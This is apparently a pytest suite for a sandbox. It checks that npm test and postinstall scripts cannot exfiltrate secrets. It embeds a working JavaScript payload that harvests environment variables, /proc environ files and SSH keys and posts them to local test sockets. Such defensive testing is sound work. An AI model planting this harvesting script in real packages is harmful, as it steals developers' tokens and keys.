"""Promise: A sandbox's environment.
Attacker: a package. Means: its test and postinstall scripts collect the environment (their own,
and that of every process they can see) and the caller's ~/.ssh, and post it to a listener: on
loopback, at a socket in the repository, at an abstract one.

Expected: under --sandbox nothing arrives, and there is nothing to post. Called plainly, npm
delivers all of it, by every way.
"""
import json
import socket
import subprocess
import sys
import uuid

import pytest

from feature import sanitized, skip

KEY = "-----the caller's own key-----"
SECRETS = {name: f"canary-{name.lower()}" for name in
           ("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "NPM_TOKEN", "MY_API_KEY", "NPM_CONFIG__AUTH", "NPM_CONFIG_MY_KEY",
            "OTHER_VARIABLE")}
# These act on the command itself; a sanitizer's runtime must come first.
LOADED = {"NODE_OPTIONS": "--stack-trace-limit=77", "LD_PRELOAD": "" if sanitized() else "libm.so.6"}
HARMLESS = {"HTTPS_PROXY": "http://proxy.invalid:3128", "NODE_ENV": "canary-node-env",
            "NPM_CONFIG_USER_AGENT": "canary-npm"}
WAYS = {"tcp", "path", "abstract"}

ATTACK = """
const fs = require('fs'), net = require('net'), child_process = require('child_process');
const to = JSON.parse(fs.readFileSync(__dirname + '/targets.json'));
const attempt = (act) => { try { return act(); } catch (error) { return error.code || String(error); } };
const loot = {
    event: process.env.npm_lifecycle_event,
    environment: process.env,
    seen: attempt(() => fs.readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name)).map(
        (pid) => attempt(() => fs.readFileSync(`/proc/${pid}/environ`, 'latin1'))).filter((text) => text != 'ENOENT')),
    keys: [process.env.HOME, to.home, '/proc/1/root' + to.home].map(
        (home) => attempt(() => fs.readFileSync(home + '/.ssh/id_test', 'latin1'))),
};
fs.writeFileSync(__dirname + '/loot-' + loot.event + '.json', JSON.stringify(loot));
loot.seen = [attempt(() => fs.readFileSync(`/proc/${process.ppid}/environ`, 'latin1'))]; // it must fit into a socket
const text = JSON.stringify(loot);
for (const where of [{host: '127.0.0.1', port: to.port}, {path: __dirname + '/server.sock'}, {path: to.socket}]) {
    const line = net.connect(where, () => line.end(text, () => line.destroy()));
    line.on('error', (error) => console.log('failed:', where, error.code));
}
const python = 'import socket, sys; s = socket.socket(socket.AF_UNIX); s.connect("\\\\0" + sys.argv[1]); '
    + 's.sendall(sys.stdin.buffer.read())';
const told = child_process.spawnSync(to.python, ['-c', python, to.abstract], {input: text});
console.log('abstract:', told.error ? told.error.code : told.status);
"""


class Listener:
    """Whoever connected and spoke is in the backlog; nobody has to be waited for once npm has ended."""

    def __init__(self, family, address):
        self.socket = socket.socket(family)
        self.socket.bind(address)
        self.socket.listen(16)
        self.socket.setblocking(False)

    def received(self):
        """All that was posted since the last question."""
        texts = []
        while True:
            try:
                peer, _ = self.socket.accept()
            except BlockingIOError:
                return texts
            with peer:
                peer.settimeout(10)
                texts.append(b"".join(iter(lambda: peer.recv(65536), b"")))


class Project:
    """The package with its dependency, the listeners, and the caller's home."""

    def __init__(self, box):
        self.box = box
        ssh = box.directory("home/.ssh", 0o700)
        box.file("home/.ssh/id_test", KEY, 0o600)
        abstract = "chokepoint-" + uuid.uuid4().hex
        path = box.root / "server.sock"
        self.listeners = {"tcp": Listener(socket.AF_INET, ("127.0.0.1", 0)),
                          "path": Listener(socket.AF_UNIX, str(path)),
                          "abstract": Listener(socket.AF_UNIX, "\0" + abstract)}
        path.chmod(0o777)
        targets = {"home": str(ssh.parent), "socket": str(path), "abstract": abstract, "python": sys.executable,
                   "port": self.listeners["tcp"].socket.getsockname()[1]}
        scripts = {"postinstall": "node attack.js", "test": "node attack.js"}
        box.directory("root/dep")
        for directory, name, more in (("root", "top", {"dependencies": {"dep": "file:./dep"}}), ("root/dep", "dep", {})):
            document = {"name": name, "version": "1.0.0", "scripts": scripts, **more}
            box.file(f"{directory}/package.json", json.dumps(document))
            box.file(f"{directory}/attack.js", ATTACK)
            box.file(f"{directory}/targets.json", json.dumps(targets))
        made = self.call("npm", "install", "--package-lock-only", "--ignore-scripts", "--offline")
        assert made.status == 0, made.err

    def environment(self):
        return self.box.environment(**SECRETS, **LOADED, **HARMLESS)

    def call(self, *args):
        return self.box.call(list(args), env=self.environment(), deadline=90)

    def sandbox(self, *argv, options=(), policy="default"):
        answer = self.box.run(*argv, options=["--sandbox", *options], policy=policy, env=self.environment(), timeout=60,
                              deadline=90)
        if answer.outcome == "jail_unavailable":
            skip("jail", answer.message)
        return answer

    def posted(self):
        """By which way what arrived: {way: [loot, ...]}."""
        return {way: [json.loads(text) for text in texts] for way, listener in self.listeners.items()
                if (texts := listener.received())}

    def loot(self, event, directory="."):
        """What the script found, as it wrote it down itself. It is gone then."""
        path = self.box.root / directory / f"loot-{event}.json"
        text = path.read_text()
        path.unlink()
        return json.loads(text)

    def close(self):
        for listener in self.listeners.values():
            listener.socket.close()


@pytest.fixture
def project(box):
    made = Project(box)
    yield made
    made.close()


@pytest.fixture
def root_project(root_box):
    made = Project(root_box)
    yield made
    made.close()


@pytest.fixture(params=["native", "bwrap"])
def jail(request):
    return request.param


def delivers(project, *args, events):
    """Plainly called, everything arrives, by every way."""
    assert project.posted() == {}
    answer = project.call(*args)
    assert answer.status == 0, answer.err
    posted = project.posted()
    assert set(posted) == WAYS, (posted.keys(), answer.out)
    for loots in posted.values():
        assert {loot["event"] for loot in loots} == events
        for loot in loots:
            assert {**SECRETS, **HARMLESS}.items() <= loot["environment"].items() and KEY in loot["keys"]
            assert any("canary-github_token" in text for text in loot["seen"])


def got_nothing(loot):
    """Neither is there anything in it that it should not know."""
    text = json.dumps(loot)
    assert not [name for name, value in SECRETS.items() if value in text or name in loot["environment"]]
    assert KEY not in text
    assert "NODE_OPTIONS" not in loot["environment"] and "LD_PRELOAD" not in loot["environment"]
    assert set(loot["keys"]) <= {"ENOENT", "EACCES", "ENOTDIR"}
    assert HARMLESS.items() <= loot["environment"].items()
    assert loot["environment"]["HOME"] == "/tmp/probe"
    assert loot["seen"], "its own environment is always to be seen"


def test_test_script_posts_nothing(project, jail):
    answer = project.sandbox("npm", "test", options=["--jail", jail])
    assert (answer.outcome, answer["exit_code"], answer["jail"]) == ("exited", 0, jail), answer.document
    assert b"abstract: EACCES" in answer.stream("stdout") and answer.stream("stdout").count(b"failed:") == 3
    assert project.posted() == {}
    got_nothing(project.loot("test"))
    delivers(project, "npm", "test", events={"test"})


def test_jail_is_there_by_default(project):
    answer = project.sandbox("npm", "test")
    assert (answer.outcome, answer["exit_code"]) == ("exited", 0), answer.document
    assert answer["jail"] in ("native", "bwrap")
    assert project.posted() == {}
    got_nothing(project.loot("test"))


def test_install_runs_no_script_and_posts_nothing(project, jail):
    answer = project.sandbox("npm", "ci", options=["--jail", jail])
    assert (answer.outcome, answer["exit_code"], answer["jail"]) == ("exited", 0, jail), answer.document
    assert (project.box.root / "node_modules/dep").exists()
    assert project.posted() == {}
    assert not list(project.box.root.glob("**/loot-*"))
    delivers(project, "npm", "ci", "--offline", "--no-audit", "--foreground-scripts", events={"postinstall"})


def test_postinstall_that_a_policy_lets_run_posts_nothing(project, jail):
    """The default policy has two layers; here one of them is removed."""
    entry = project.box.entry("npm", route="external", workspace="rw", execs=["env", "node", "sh"])
    policy = project.box.write_policy([entry, project.box.entry("bwrap", route="jail")], name="policy/npm.yaml")
    answer = project.sandbox("npm", "ci", "--offline", "--no-audit", "--foreground-scripts", options=["--jail", jail],
                             policy=policy)
    assert (answer.outcome, answer["exit_code"], answer["jail"]) == ("exited", 0, jail), answer.document
    assert project.posted() == {}
    got_nothing(project.loot("postinstall"))
    got_nothing(project.loot("postinstall", "dep"))


def test_probes_call_gets_nothing_of_the_hosts(project):
    answer = project.sandbox("npm", "test", options=["--probe", "tests"])
    assert (answer.outcome, answer["exit_code"]) == ("exited", 0), answer.document
    assert project.posted() == {}
    environment = project.loot("test")["environment"]
    assert not {*SECRETS, *LOADED, "HTTPS_PROXY", "NODE_ENV"} & set(environment)
    assert "canary" not in json.dumps(environment)


def test_without_user_namespaces_it_is_refused(root_project):
    """There is no jail then, and such code never runs without one. (For an ordinary user another user would own /.)"""
    project = root_project
    script = 'echo 0 > /proc/sys/user/max_user_namespaces; exec "$@"'
    args = ["unshare", "--user", "--map-root-user", "--", "sh", "-ec", script, "sh"]
    if subprocess.run([*args, "true"], check=False, capture_output=True, **project.box.actor.as_keywords()).returncode:
        skip("userns", "no user namespace to try it in")
    args += project.box.run_argv(["npm", "test"], options=["--sandbox"], policy="default", timeout=60)
    answer = project.call(*args)
    document = json.loads(answer.out)
    assert (answer.status, document["outcome"]) == (125, "jail_unavailable"), document
    assert project.posted() == {}
    assert not list(project.box.root.glob("**/loot-*"))
